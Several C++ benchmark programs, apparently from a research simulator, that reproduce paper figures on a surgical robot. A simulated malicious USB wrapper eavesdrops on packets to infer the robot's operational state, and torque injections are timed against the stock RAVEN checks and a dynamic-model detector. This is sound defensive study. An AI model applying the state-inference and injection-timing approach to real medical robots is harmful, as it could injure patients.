}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header(
      "DETECTION LATENCY: ms from first corrupted packet to alarm\n"
      "(scenario B, 128 ms activation period)");

  const DetectionThresholds thresholds = bench::standard_thresholds();
  const int reps = bench::reps(25);

  std::printf("\n  %8s | %19s | %19s | %s\n", "value", "dynamic model (ms)", "RAVEN checks (ms)",
              "impact crosses 1 mm (ms)");
  for (double value : {14000.0, 18000.0, 22000.0, 26000.0, 30000.0}) {
    const LatencyStats s = measure(value, thresholds, reps);
    std::printf("  %8.0f | fired %2d/%2d %6.1f+-%4.1f | fired %2d/%2d %6.1f+-%4.1f | "
                "%2d/%2d at %6.1f\n",
                value, s.dyn_fired, s.runs, s.dyn_ms.mean(), s.dyn_ms.stddev(), s.raven_fired,
                s.runs, s.raven_ms.mean(), s.raven_ms.stddev(), s.impacts, s.runs,
                s.impact_ms.mean());
  }

  std::printf("\n  Shape check: the dynamic model fires within a few ms of injection\n"
              "  onset — before the 1 mm displacement exists — while RAVEN's checks\n"
              "  trail the physical corruption by tens of ms (when they fire at all).\n");
  return 0;
}
