// Microbenchmark for the dynamics hot kernels: scalar RavenDynamicsModel
// vs the batched SoA BatchRavenModel (dynamics/batch_model.hpp), plus an
// end-to-end campaign throughput comparison with lane batching off/on.
//
// The batched kernels are bit-identical to the scalar ones (asserted by
// tests/test_batch_dynamics.cpp); this binary quantifies what that buys:
// derivative-eval and solver-step throughput, and sessions/sec at the
// campaign level.  Results land in BENCH_dynamics.json (schema
// "rg.bench.dynamics/1"; RG_BENCH_DYNAMICS_JSON overrides the path) via
// the same atexit flush pattern bench_util.hpp uses for campaign logs.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>

#include "bench_util.hpp"
#include "dynamics/batch_model.hpp"
#include "dynamics/raven_model.hpp"
#include "sim/campaign.hpp"

namespace rg::bench {
namespace {

struct DynamicsBenchEntry {
  std::string kernel;
  std::uint64_t evals = 0;          ///< per side (scalar == batched count)
  double scalar_evals_per_sec = 0.0;
  double batched_evals_per_sec = 0.0;
  double speedup = 0.0;
};

std::vector<DynamicsBenchEntry>& entries() {
  static std::vector<DynamicsBenchEntry> v;
  return v;
}

std::string bench_path() {
  if (const char* env = std::getenv("RG_BENCH_DYNAMICS_JSON")) return env;
  return "BENCH_dynamics.json";
}

void write_bench_json() {
  const auto& rows = entries();
  if (rows.empty()) return;
  std::ofstream os(bench_path());
  if (!os) return;
  os.precision(17);
  os << "{\n  \"schema\": \"rg.bench.dynamics/1\",\n  \"lanes\": " << kBatchLanes
     << ",\n  \"kernels\": [\n";
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const DynamicsBenchEntry& e = rows[i];
    os << "    {\"kernel\": \"" << e.kernel << "\", \"evals\": " << e.evals
       << ", \"scalar_evals_per_sec\": " << e.scalar_evals_per_sec
       << ", \"batched_evals_per_sec\": " << e.batched_evals_per_sec
       << ", \"speedup\": " << e.speedup << "}" << (i + 1 < rows.size() ? ",\n" : "\n");
  }
  os << "  ]\n}\n";
}

void record(const std::string& kernel, std::uint64_t evals, double scalar_sec,
            double batched_sec) {
  std::vector<DynamicsBenchEntry>& rows = entries();
  static const bool registered = [] {
    std::atexit(write_bench_json);
    return true;
  }();
  (void)registered;
  DynamicsBenchEntry e;
  e.kernel = kernel;
  e.evals = evals;
  e.scalar_evals_per_sec = static_cast<double>(evals) / scalar_sec;
  e.batched_evals_per_sec = static_cast<double>(evals) / batched_sec;
  e.speedup = scalar_sec / batched_sec;
  std::printf("%-12s %10.3fM evals/s scalar, %10.3fM evals/s batched  (%.2fx)\n",
              kernel.c_str(), e.scalar_evals_per_sec / 1.0e6, e.batched_evals_per_sec / 1.0e6,
              e.speedup);
  rows.push_back(e);
}

double seconds_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}

/// Passes per side for the kernel microbenches.  Scalar and batched chunks
/// alternate and each side keeps its *best* chunk time, so a scheduler
/// hiccup during one chunk cannot skew the ratio — both sides are measured
/// at their peak on the same machine state.
constexpr int kPasses = 5;

/// Deterministic lane states spread over the workspace; no RNG so both
/// sides chew on identical numbers.
void seed_states(std::array<RavenDynamicsModel::State, kBatchLanes>& states,
                 std::array<Vec3, kBatchLanes>& currents) {
  for (std::size_t l = 0; l < kBatchLanes; ++l) {
    for (std::size_t i = 0; i < 12; ++i) {
      states[l][i] = 0.05 * static_cast<double>(i + 1) - 0.03 * static_cast<double>(l);
    }
    currents[l] = {1.5 - 0.2 * static_cast<double>(l), -0.8 + 0.1 * static_cast<double>(l),
                   0.4};
  }
}

void bench_derivative(std::uint64_t iters) {
  const RavenDynamicsParams params = RavenDynamicsParams::raven_defaults();
  const RavenDynamicsModel scalar(params);
  const BatchRavenModel batch(params);

  std::array<RavenDynamicsModel::State, kBatchLanes> states{};
  std::array<Vec3, kBatchLanes> currents{};
  seed_states(states, currents);

  BatchState x;
  BatchLanes3 cur{};
  for (std::size_t l = 0; l < kBatchLanes; ++l) {
    x.set_lane(l, states[l]);
    for (std::size_t i = 0; i < 3; ++i) cur[i][l] = currents[l][i];
  }
  BatchLanes3 tau_em;
  batch.tau_em_from_currents(cur, tau_em);
  BatchState dx;

  const std::uint64_t chunk = iters / kPasses + 1;
  double sink = 0.0;
  double scalar_best = 1.0e300;
  double batched_best = 1.0e300;
  for (int pass = 0; pass < kPasses; ++pass) {
    auto t0 = std::chrono::steady_clock::now();
    for (std::uint64_t it = 0; it < chunk; ++it) {
      for (std::size_t l = 0; l < kBatchLanes; ++l) {
        const auto sdx = scalar.derivative(states[l], currents[l]);
        sink += sdx[3];
      }
    }
    const double ssec = seconds_since(t0);
    scalar_best = ssec < scalar_best ? ssec : scalar_best;

    t0 = std::chrono::steady_clock::now();
    for (std::uint64_t it = 0; it < chunk; ++it) {
      batch.derivative(x, tau_em, nullptr, nullptr, dx);
      sink += dx.c[3][0];
    }
    const double bsec = seconds_since(t0);
    batched_best = bsec < batched_best ? bsec : batched_best;
  }

  if (sink == 42.0) std::printf("#");  // defeat dead-code elimination
  record("derivative", chunk * kBatchLanes, scalar_best, batched_best);
}

void bench_step_rk4(std::uint64_t iters) {
  const RavenDynamicsParams params = RavenDynamicsParams::raven_defaults();
  const RavenDynamicsModel scalar(params);
  const BatchRavenModel batch(params);

  std::array<RavenDynamicsModel::State, kBatchLanes> states{};
  std::array<Vec3, kBatchLanes> currents{};
  seed_states(states, currents);

  BatchState x;
  BatchLanes3 cur{};
  for (std::size_t l = 0; l < kBatchLanes; ++l) {
    x.set_lane(l, states[l]);
    for (std::size_t i = 0; i < 3; ++i) cur[i][l] = currents[l][i];
  }

  const std::uint64_t chunk = iters / kPasses + 1;
  double sink = 0.0;
  double scalar_best = 1.0e300;
  double batched_best = 1.0e300;
  for (int pass = 0; pass < kPasses; ++pass) {
    auto t0 = std::chrono::steady_clock::now();
    for (std::uint64_t it = 0; it < chunk; ++it) {
      for (std::size_t l = 0; l < kBatchLanes; ++l) {
        states[l] = scalar.step(states[l], currents[l], 5.0e-5, SolverKind::kRk4);
      }
      sink += states[0][0];
    }
    const double ssec = seconds_since(t0);
    scalar_best = ssec < scalar_best ? ssec : scalar_best;

    t0 = std::chrono::steady_clock::now();
    for (std::uint64_t it = 0; it < chunk; ++it) {
      batch.step(x, cur, 5.0e-5, SolverKind::kRk4);
      sink += x.c[0][0];
    }
    const double bsec = seconds_since(t0);
    batched_best = bsec < batched_best ? bsec : batched_best;
  }

  if (sink == 42.0) std::printf("#");
  record("step_rk4", chunk * kBatchLanes, scalar_best, batched_best);
}

/// End-to-end: the same homogeneous campaign with lane batching disabled
/// (lanes=1) and enabled (lanes=kBatchLanes) on one worker thread, so the
/// wall-clock delta is purely the batched kernels.
void bench_campaign(int sessions, double duration_sec) {
  std::vector<CampaignJob> jobs;
  DetectionThresholds tight;
  tight.motor_vel = tight.motor_acc = tight.joint_vel = Vec3::filled(1.0);
  for (int i = 0; i < sessions; ++i) {
    CampaignJob job;
    job.params.seed = 9000 + static_cast<std::uint64_t>(i) * 31;
    job.params.duration_sec = duration_sec;
    job.thresholds = tight;
    jobs.push_back(std::move(job));
  }

  const auto run_with_lanes = [&jobs](int lanes) {
    CampaignOptions options;
    options.jobs = 1;
    options.lanes = lanes;
    const auto t0 = std::chrono::steady_clock::now();
    const CampaignReport report = CampaignRunner(options).run(jobs);
    const double sec = seconds_since(t0);
    (void)report;
    return sec;
  };

  const double scalar_sec = run_with_lanes(1);
  const double batched_sec = run_with_lanes(static_cast<int>(kBatchLanes));
  // "evals" here = simulated ticks, the campaign's unit of work.
  const auto ticks =
      static_cast<std::uint64_t>(sessions) * static_cast<std::uint64_t>(duration_sec * 1000.0);
  record("campaign", ticks, scalar_sec, batched_sec);
}

}  // namespace
}  // namespace rg::bench

int main() {
  using namespace rg::bench;
  std::printf("== dynamics kernel throughput (lanes=%zu) ==\n", rg::kBatchLanes);
  const auto iters = static_cast<std::uint64_t>(200000 * scale());
  bench_derivative(iters > 0 ? iters : 1);
  bench_step_rk4((iters > 0 ? iters : 1) / 4 + 1);
  bench_campaign(reps(16), 1.0);
  return 0;
}
