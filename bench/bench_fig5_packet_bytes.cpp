// FIGURE 5 reproduction: per-byte analysis of the USB packets captured by
// the eavesdropping wrapper during one teleoperated run.
//
// Paper: "Each subplot shows the value of each of the 18 bytes over the
// course of a run ... Byte 0 switches among 8 different values ... if the
// fifth bit is taken out, then Byte 0 only switches among 4 values
// corresponding to the four distinct states of the robot."  Byte 4 (a DAC
// data byte) switches between many values.
//
// We print, per byte position: raw cardinality, the detected toggling-bit
// mask, masked cardinality, and a classification — the textual form of
// the figure's subplots.
#include <cstdio>
#include <memory>

#include "attack/logging_wrapper.hpp"
#include "attack/packet_analyzer.hpp"
#include "bench_util.hpp"
#include "sim/surgical_sim.hpp"

int main() {
  using namespace rg;
  bench::header(
      "FIGURE 5: USB packet bytes over one teleoperated run\n"
      "(captured by the malicious write wrapper; per-byte statistics)");

  // One full run: E-STOP lead-in, homing, pedal up, teleoperation with a
  // pedal lift in the middle — the paper's "initialization to the end of
  // a teleoperation session".
  auto logger = std::make_shared<LoggingWrapper>("r2_control", 11, "r2_control", 11);
  SessionParams p = bench::standard_session();
  p.duration_sec = 6.0;
  SimConfig cfg = make_session(p, std::nullopt, MitigationMode::kObserveOnly);
  cfg.pedal = PedalSchedule{{{1.2, 3.0}, {3.4, 12.0}}};
  SurgicalSim sim(std::move(cfg));
  sim.write_chain().add(logger);
  sim.run(p.duration_sec);

  std::printf("\n  captured %zu packets of %zu bytes\n\n", logger->packets_captured(),
              logger->capture().front().bytes.size());

  PacketAnalyzer analyzer(logger->capture());
  std::printf("  %-6s %-10s %-12s %-12s %s\n", "Byte", "distinct", "toggle-mask",
              "masked-dist", "classification");
  for (const ByteProfile& prof : analyzer.byte_profiles()) {
    const char* kind = "data (many-valued)";
    if (prof.constant) {
      kind = "constant";
    } else if (prof.distinct_after_mask >= 2 && prof.distinct_after_mask <= 8 &&
               prof.transitions_after_mask < 8 * prof.distinct_after_mask) {
      kind = "STATE-LIKE  <-- leaks the robot state";
    }
    std::printf("  %-6zu %-10zu 0x%02X         %-12zu %s\n", prof.index, prof.distinct_values,
                prof.toggling_mask, prof.distinct_after_mask, kind);
  }

  const auto& byte0 = analyzer.byte_profiles()[0];
  std::printf("\n  Paper's observation, reproduced:\n");
  std::printf("    Byte 0 raw cardinality      : %zu (paper: 8)\n", byte0.distinct_values);
  std::printf("    toggling bit (watchdog)     : bit 4 (mask 0x%02X, paper: fifth bit)\n",
              byte0.toggling_mask);
  std::printf("    cardinality after stripping : %zu (paper: 4 = operational states)\n",
              byte0.distinct_after_mask);
  return 0;
}
