// FIGURE 6 reproduction: Byte-0 state inference across nine different
// runs of the robot.
//
// Paper: nine runs, each showing the Byte-0 step pattern from which the
// attacker infers E-STOP -> Homing -> Pedal Up -> Pedal Down.  We replay
// nine sessions with different trajectories and pedal schedules, run the
// offline analysis on each capture, and print the inferred state timeline
// next to the ground truth — plus the recovered Pedal-Down trigger value.
#include <cstdio>
#include <fstream>
#include <memory>
#include <vector>

#include "attack/logging_wrapper.hpp"
#include "attack/packet_analyzer.hpp"
#include "bench_util.hpp"
#include "sim/surgical_sim.hpp"
#include "viz/trace_plots.hpp"

namespace rg {
namespace {

const char* code_name(std::uint8_t code) {
  const auto state = state_from_wire_code(code);
  return state ? to_string(*state).data() : "??";
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header("FIGURE 6: Byte-0 state timeline inferred across nine runs");

  // The nine captures run as one campaign; each job's body records its
  // wiretap into a per-run slot and the analysis/printing stays serial.
  std::vector<std::shared_ptr<LoggingWrapper>> taps(9);
  std::vector<CampaignJob> jobs(9);
  for (int run = 0; run < 9; ++run) {
    CampaignJob& job = jobs[static_cast<std::size_t>(run)];
    job.params = bench::standard_session();
    job.params.seed = 100 + static_cast<std::uint64_t>(run) * 13;
    job.params.duration_sec = 5.0 + 0.3 * run;
    job.label = "fig6-capture";
    job.body = [run, params = job.params, slot = &taps[static_cast<std::size_t>(run)]]() {
      SimConfig cfg = make_session(params, std::nullopt, MitigationMode::kObserveOnly);
      // Vary the pedal rhythm run to run, as a human operator would.
      const double first_down = 1.1 + 0.05 * run;
      const double lift = 2.2 + 0.15 * run;
      const double second_down = lift + 0.25 + 0.05 * run;
      cfg.pedal = PedalSchedule{{{first_down, lift}, {second_down, 100.0}}};

      auto logger = std::make_shared<LoggingWrapper>("r2_control", 11, "r2_control", 11);
      SurgicalSim sim(std::move(cfg));
      sim.write_chain().add(logger);
      sim.run(params.duration_sec);
      *slot = std::move(logger);

      AttackRunResult result;
      result.outcome = sim.outcome();
      return result;
    };
  }
  (void)bench::run_campaign(std::move(jobs));

  int correct_triggers = 0;
  for (int run = 0; run < 9; ++run) {
    const std::shared_ptr<LoggingWrapper>& logger = taps[static_cast<std::size_t>(run)];
    PacketAnalyzer analyzer(logger->capture());
    const auto inference = analyzer.infer_state();
    std::printf("\n  run %d (%zu packets): ", run + 1, logger->packets_captured());
    if (!inference.ok()) {
      std::printf("inference FAILED: %s\n", inference.error().to_string().c_str());
      continue;
    }
    const StateInference& inf = inference.value();
    std::printf("state byte %zu, watchdog mask 0x%02X, trigger 0x%02X\n",
                inf.state_byte_index, inf.watchdog_mask, inf.pedal_down_code);
    std::printf("    timeline: ");
    for (const StateSegment& seg : inf.timeline) {
      std::printf("[%llu..%llu %s] ", static_cast<unsigned long long>(seg.start_tick),
                  static_cast<unsigned long long>(seg.end_tick), code_name(seg.code));
    }
    std::printf("\n");
    if (inf.pedal_down_code == wire_code(RobotState::kPedalDown)) ++correct_triggers;

    // The figure itself: one Byte-0 step plot per run.
    if (run < 3) {  // first three runs keep the artifact set small
      const std::string path = "fig6_run" + std::to_string(run + 1) + ".svg";
      std::ofstream os(path);
      state_byte_chart(logger->capture(), inf.state_byte_index, inf.watchdog_mask,
                       "Fig 6: Byte 0 over run " + std::to_string(run + 1))
          .render(os);
      std::printf("    plot written to %s\n", path.c_str());
    }
  }

  std::printf("\n  Pedal-Down trigger correctly recovered in %d/9 runs (paper: the\n", correct_triggers);
  std::printf("  attacker concludes Byte 0 = state, 0x0F/0x1F = engaged).\n");
  return correct_triggers == 9 ? 0 : 1;
}
