// FIGURE 8 reproduction: validation of the dynamic model against the
// (simulated) physical robot.
//
// Paper: the model runs in parallel with the robot, both receiving the
// same control input; the table reports average wall-clock time per
// integration step and average motor/joint position error per joint for
// 4th-order Runge-Kutta vs explicit Euler (1 ms step), over 10 runs; the
// plots show the model trajectory tracking the robot's.
//
// Output: the same table (per-solver time/step + per-joint MAE in motor
// and joint coordinates, absolute and % of the run's motion range) and a
// CSV with one run's model-vs-plant trajectories.
#include <chrono>
#include <cstdio>
#include <fstream>
#include <vector>

#include "bench_util.hpp"
#include "core/estimator.hpp"
#include "math/stats.hpp"
#include "sim/surgical_sim.hpp"
#include "viz/trace_plots.hpp"

namespace rg {
namespace {

struct Series {
  std::vector<double> model_mpos[3];
  std::vector<double> plant_mpos[3];
  std::vector<double> model_jpos[3];
  std::vector<double> plant_jpos[3];
};

/// Run one session with the model in parallel (huge thresholds => the
/// pipeline never interferes) and collect aligned model/plant series.
Series run_paired(SolverKind solver, std::uint64_t seed, double observer_gain_scale) {
  SessionParams p = bench::standard_session();
  p.seed = seed;
  p.duration_sec = 6.0;
  p.detector_solver = solver;

  DetectionThresholds huge;
  huge.motor_vel = huge.motor_acc = huge.joint_vel = Vec3::filled(1e18);
  SimConfig cfg = make_session(p, huge, MitigationMode::kObserveOnly);
  cfg.detection->detector.ee_jump_limit = 0.0;
  cfg.detection->estimator.observer_position_gain *= observer_gain_scale;
  cfg.detection->estimator.observer_velocity_gain *= observer_gain_scale;

  SurgicalSim sim(std::move(cfg));

  Series out;
  // The prediction's "now" state is the parallel model after the previous
  // tick's commit — align it with the plant sampled at the end of the
  // previous tick.
  bool have_prev_plant = false;
  MotorVector prev_plant_m{};
  JointVector prev_plant_j{};
  sim.set_detection_observer([&](const DetectionPipeline::Outcome& o) {
    if (!o.prediction.valid || !have_prev_plant) return;
    for (std::size_t i = 0; i < 3; ++i) {
      out.model_mpos[i].push_back(o.prediction.mpos_now[i]);
      out.plant_mpos[i].push_back(prev_plant_m[i]);
      out.model_jpos[i].push_back(o.prediction.jpos_now[i]);
      out.plant_jpos[i].push_back(prev_plant_j[i]);
    }
  });

  const auto ticks = static_cast<std::uint64_t>(p.duration_sec * 1000.0);
  for (std::uint64_t t = 0; t < ticks; ++t) {
    sim.step();
    prev_plant_m = sim.plant().motor_positions();
    prev_plant_j = sim.plant().joint_positions();
    have_prev_plant = true;
  }
  return out;
}

double series_range(const std::vector<double>& xs) {
  if (xs.empty()) return 1.0;
  const double range = max_value(xs) - min_value(xs);
  return range > 1e-12 ? range : 1.0;
}

/// Wall-clock cost of one predict+commit (the per-cycle model work).
double time_per_step_ms(SolverKind solver) {
  EstimatorConfig cfg;
  cfg.solver = solver;
  DynamicModelEstimator est(cfg);
  const RavenDynamicsModel model;
  est.observe_feedback(model.coupling().joint_to_motor(JointVector{0.0, 1.5, 0.15}));
  const std::array<std::int16_t, 3> dac{500, -300, 200};
  const int iters = 20000;
  const auto start = std::chrono::steady_clock::now();
  for (int i = 0; i < iters; ++i) {
    (void)est.predict(dac);
    est.commit(dac);
  }
  const auto stop = std::chrono::steady_clock::now();
  return std::chrono::duration<double, std::milli>(stop - start).count() / iters;
}

/// Collect the paired model/plant series for `runs` sessions through the
/// campaign engine: each job's custom body drives its own paired session
/// and writes into its pre-sized slot, so runs execute in parallel while
/// the aggregation below still sees them in submission order.
std::vector<Series> paired_series(SolverKind solver, int runs, double observer_scale) {
  std::vector<Series> series(static_cast<std::size_t>(runs));
  std::vector<CampaignJob> jobs(static_cast<std::size_t>(runs));
  for (int r = 0; r < runs; ++r) {
    CampaignJob& job = jobs[static_cast<std::size_t>(r)];
    job.params = bench::standard_session();
    job.params.seed = 42 + static_cast<std::uint64_t>(r) * 7;
    job.params.duration_sec = 6.0;
    job.label = "fig8-paired";
    job.body = [solver, observer_scale, seed = job.params.seed,
                slot = &series[static_cast<std::size_t>(r)]]() {
      *slot = run_paired(solver, seed, observer_scale);
      return AttackRunResult{};
    };
  }
  (void)bench::run_campaign(std::move(jobs));
  return series;
}

void report_solver(SolverKind solver, int runs, double observer_scale, const char* label) {
  double mae_m[3] = {0, 0, 0};
  double mae_j[3] = {0, 0, 0};
  double pct_m[3] = {0, 0, 0};
  double pct_j[3] = {0, 0, 0};
  for (const Series& s : paired_series(solver, runs, observer_scale)) {
    for (std::size_t i = 0; i < 3; ++i) {
      const double em = mean_absolute_error(s.model_mpos[i], s.plant_mpos[i]);
      const double ej = mean_absolute_error(s.model_jpos[i], s.plant_jpos[i]);
      mae_m[i] += em / runs;
      mae_j[i] += ej / runs;
      pct_m[i] += 100.0 * em / series_range(s.plant_mpos[i]) / runs;
      pct_j[i] += 100.0 * ej / series_range(s.plant_jpos[i]) / runs;
    }
  }
  const double step_ms = time_per_step_ms(solver);
  constexpr double kRadToDegree = 57.29577951308232;
  std::printf("  %-18s %9.4f   ", label, step_ms);
  std::printf("%7.3f(%4.1f%%) %7.3f(%4.1f%%)   ", mae_m[0] * kRadToDegree, pct_m[0],
              mae_j[0] * kRadToDegree, pct_j[0]);
  std::printf("%7.3f(%4.1f%%) %7.3f(%4.1f%%)   ", mae_m[1] * kRadToDegree, pct_m[1],
              mae_j[1] * kRadToDegree, pct_j[1]);
  std::printf("%7.3f(%4.1f%%) %7.3f(%4.1f%%)\n", mae_m[2] * kRadToDegree, pct_m[2],
              mae_j[2] * 1000.0, pct_j[2]);
}

void dump_svg(const Series& s) {
  std::vector<double> t;
  t.reserve(s.model_jpos[1].size());
  for (std::size_t i = 0; i < s.model_jpos[1].size(); ++i) {
    t.push_back(static_cast<double>(i) / 1000.0);
  }
  const char* names[3] = {"fig8_shoulder.svg", "fig8_elbow.svg", "fig8_insertion.svg"};
  const char* titles[3] = {"Fig 8: shoulder joint, model vs robot",
                           "Fig 8: elbow joint, model vs robot",
                           "Fig 8: insertion joint, model vs robot"};
  const char* units[3] = {"rad", "rad", "m"};
  for (std::size_t j = 0; j < 3; ++j) {
    std::ofstream os(names[j]);
    model_vs_plant_chart(t, s.model_jpos[j], s.plant_jpos[j], titles[j], units[j]).render(os);
  }
  std::printf("  model-vs-robot joint plots: fig8_shoulder.svg fig8_elbow.svg fig8_insertion.svg\n");
}

void dump_csv(const char* path) {
  const Series s = run_paired(SolverKind::kEuler, 42, 1.0);
  dump_svg(s);
  std::ofstream os(path);
  os << "tick,model_m1,plant_m1,model_m2,plant_m2,model_m3,plant_m3,"
        "model_q1,plant_q1,model_q2,plant_q2,model_q3,plant_q3\n";
  for (std::size_t t = 0; t < s.model_mpos[0].size(); t += 10) {
    os << t;
    for (std::size_t i = 0; i < 3; ++i) {
      os << ',' << s.model_mpos[i][t] << ',' << s.plant_mpos[i][t];
    }
    for (std::size_t i = 0; i < 3; ++i) {
      os << ',' << s.model_jpos[i][t] << ',' << s.plant_jpos[i][t];
    }
    os << '\n';
  }
  std::printf("\n  model-vs-plant trajectories written to %s\n", path);
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header(
      "FIGURE 8: Dynamic model validation (model in parallel with robot)\n"
      "columns: time/step (ms) | per joint: mpos MAE deg(%), jpos MAE deg|mm(%)");

  const int runs = bench::reps(10);

  // The paper's validation runs the model open-loop in parallel with the
  // robot (same control inputs, no per-cycle correction) — that is the
  // free-run configuration, and its error magnitudes are what the paper's
  // table reports (mpos errors of tens-to-hundreds of motor degrees at a
  // few percent of the motion range).
  std::printf("\n  Model free-running in parallel with the robot (the paper's table):\n");
  std::printf("  %-18s %-11s %-33s %-33s %s\n", "Integration", "Time/step",
              "Joint 1 (shoulder)", "Joint 2 (elbow)", "Joint 3 (insertion, jpos mm)");
  report_solver(SolverKind::kRk4, runs, 0.0, "4th-order RK");
  report_solver(SolverKind::kEuler, runs, 0.0, "Euler");
  report_solver(SolverKind::kMidpoint, runs, 0.0, "Midpoint (extra)");

  std::printf("\n  Paper reference (step 1 ms): RK4 0.032 ms/step, Euler 0.011 ms/step;\n");
  std::printf("  mpos MAE 115-182 deg at 0.3-2.4%%, jpos MAE ~1-2 deg / 1.3-1.4 mm.\n");
  std::printf("  Shape check: Euler ~3x cheaper per step than RK4, both well under\n");
  std::printf("  the 1 ms control budget, with comparable trajectory error.\n");

  std::printf("\n  As deployed in the detector (with encoder-feedback correction):\n");
  std::printf("  %-18s %-11s %-33s %-33s %s\n", "Integration", "Time/step",
              "Joint 1 (shoulder)", "Joint 2 (elbow)", "Joint 3 (insertion, jpos mm)");
  report_solver(SolverKind::kRk4, std::max(1, runs / 2), 1.0, "4th-order RK");
  report_solver(SolverKind::kEuler, std::max(1, runs / 2), 1.0, "Euler");

  dump_csv("fig8_trajectories.csv");
  return 0;
}
