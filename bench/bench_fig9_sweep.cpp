// FIGURE 9 reproduction: probability of adverse impact and of detection
// (dynamic model vs RAVEN checks) as a function of the injected error
// value and the attack activation period, for scenario B.
//
// Paper: each (value, period) cell repeated >= 20 times; larger values
// and longer activation periods raise impact probability; the dynamic
// model's detection probability tracks at or above the impact curve
// (preemptive), while RAVEN's stays below it — attackers can engineer
// injections that hurt without tripping the stock checks.
#include <cstdio>
#include <vector>

#include "bench_util.hpp"

namespace rg {
namespace {

struct Cell {
  double p_impact = 0.0;
  double p_dyn = 0.0;
  double p_raven = 0.0;
};

CampaignJob cell_job(double value, std::uint32_t duration,
                     const DetectionThresholds& thresholds, int rep) {
  CampaignJob job;
  job.attack.variant = AttackVariant::kTorqueInjection;
  job.attack.magnitude = value;
  job.attack.duration_packets = duration;
  job.attack.delay_packets = 300 + static_cast<std::uint32_t>(rep) * 139;
  job.attack.seed = 40000 + static_cast<std::uint64_t>(rep) * 23 +
                    static_cast<std::uint64_t>(duration) * 7 +
                    static_cast<std::uint64_t>(value);
  job.params = bench::standard_session();
  job.params.seed = 2000 + static_cast<std::uint64_t>(rep) * 37;
  job.thresholds = thresholds;
  return job;
}

/// Run every (value, period) cell of one figure section as a single
/// campaign; cell i owns results [i*reps, (i+1)*reps).
template <typename Axis>
std::vector<Cell> run_section(const std::vector<Axis>& axis,
                              const std::function<CampaignJob(Axis, int)>& make_job,
                              int reps) {
  std::vector<CampaignJob> jobs;
  for (Axis a : axis) {
    for (int rep = 0; rep < reps; ++rep) jobs.push_back(make_job(a, rep));
  }
  const CampaignReport report = bench::run_campaign(std::move(jobs));

  std::vector<Cell> cells(axis.size());
  for (std::size_t i = 0; i < axis.size(); ++i) {
    Cell& cell = cells[i];
    for (int rep = 0; rep < reps; ++rep) {
      const AttackRunResult& r = report.results[i * static_cast<std::size_t>(reps) +
                                                static_cast<std::size_t>(rep)].run;
      cell.p_impact += r.impact() ? 1.0 : 0.0;
      cell.p_dyn += r.outcome.detector_alarmed() ? 1.0 : 0.0;
      cell.p_raven += r.outcome.raven_detected() ? 1.0 : 0.0;
    }
    cell.p_impact /= reps;
    cell.p_dyn /= reps;
    cell.p_raven /= reps;
  }
  return cells;
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header(
      "FIGURE 9: P(adverse impact), P(detect) vs injected error value and\n"
      "activation period — scenario B (torque command injection)");

  const DetectionThresholds thresholds = bench::standard_thresholds();
  const int reps = bench::reps(20);

  const std::vector<double> values = {1000,  2000,  4000,  8000,  12000,
                                      16000, 20000, 24000, 28000, 32000};
  const std::vector<std::uint32_t> periods = {2, 4, 8, 16, 32, 64, 128, 256, 512};

  // (a) vs injected value, for a few fixed activation periods.
  for (std::uint32_t period : {8u, 64u, 256u}) {
    const std::vector<Cell> cells = run_section<double>(
        values,
        [&](double value, int rep) { return cell_job(value, period, thresholds, rep); },
        reps);
    std::printf("\n  activation period = %u ms (%d reps per point)\n", period, reps);
    std::printf("  %10s %10s %12s %12s\n", "value", "P(impact)", "P(dyn det)", "P(RAVEN det)");
    for (std::size_t i = 0; i < values.size(); ++i) {
      std::printf("  %10.0f %10.2f %12.2f %12.2f\n", values[i], cells[i].p_impact,
                  cells[i].p_dyn, cells[i].p_raven);
    }
  }

  // (b) vs activation period, for a few fixed values.
  for (double value : {8000.0, 20000.0, 32000.0}) {
    const std::vector<Cell> cells = run_section<std::uint32_t>(
        periods,
        [&](std::uint32_t period, int rep) { return cell_job(value, period, thresholds, rep); },
        reps);
    std::printf("\n  injected value = %.0f DAC counts (%d reps per point)\n", value, reps);
    std::printf("  %10s %10s %12s %12s\n", "period ms", "P(impact)", "P(dyn det)",
                "P(RAVEN det)");
    for (std::size_t i = 0; i < periods.size(); ++i) {
      std::printf("  %10u %10.2f %12.2f %12.2f\n", periods[i], cells[i].p_impact,
                  cells[i].p_dyn, cells[i].p_raven);
    }
  }

  std::printf("\n  Paper shape check: impact probability grows with value x period;\n"
              "  dynamic-model detection >= impact curve (preemptive); RAVEN detection\n"
              "  below impact curve for short/moderate injections (the attacker's window).\n");
  return 0;
}
