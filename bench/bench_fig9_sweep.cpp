// FIGURE 9 reproduction: probability of adverse impact and of detection
// (dynamic model vs RAVEN checks) as a function of the injected error
// value and the attack activation period, for scenario B.
//
// Paper: each (value, period) cell repeated >= 20 times; larger values
// and longer activation periods raise impact probability; the dynamic
// model's detection probability tracks at or above the impact curve
// (preemptive), while RAVEN's stays below it — attackers can engineer
// injections that hurt without tripping the stock checks.
#include <cstdio>

#include "bench_util.hpp"

namespace rg {
namespace {

struct Cell {
  double p_impact = 0.0;
  double p_dyn = 0.0;
  double p_raven = 0.0;
};

Cell run_cell(double value, std::uint32_t duration, const DetectionThresholds& thresholds,
              int reps) {
  Cell cell;
  for (int rep = 0; rep < reps; ++rep) {
    AttackSpec spec;
    spec.variant = AttackVariant::kTorqueInjection;
    spec.magnitude = value;
    spec.duration_packets = duration;
    spec.delay_packets = 300 + static_cast<std::uint32_t>(rep) * 139;
    spec.seed = 40000 + static_cast<std::uint64_t>(rep) * 23 +
                static_cast<std::uint64_t>(duration) * 7 +
                static_cast<std::uint64_t>(value);

    SessionParams p = bench::standard_session();
    p.seed = 2000 + static_cast<std::uint64_t>(rep) * 37;

    const AttackRunResult r = run_attack_session(p, spec, thresholds, /*mitigation=*/false);
    cell.p_impact += r.impact() ? 1.0 : 0.0;
    cell.p_dyn += r.outcome.detector_alarmed() ? 1.0 : 0.0;
    cell.p_raven += r.outcome.raven_detected() ? 1.0 : 0.0;
  }
  cell.p_impact /= reps;
  cell.p_dyn /= reps;
  cell.p_raven /= reps;
  return cell;
}

}  // namespace
}  // namespace rg

int main() {
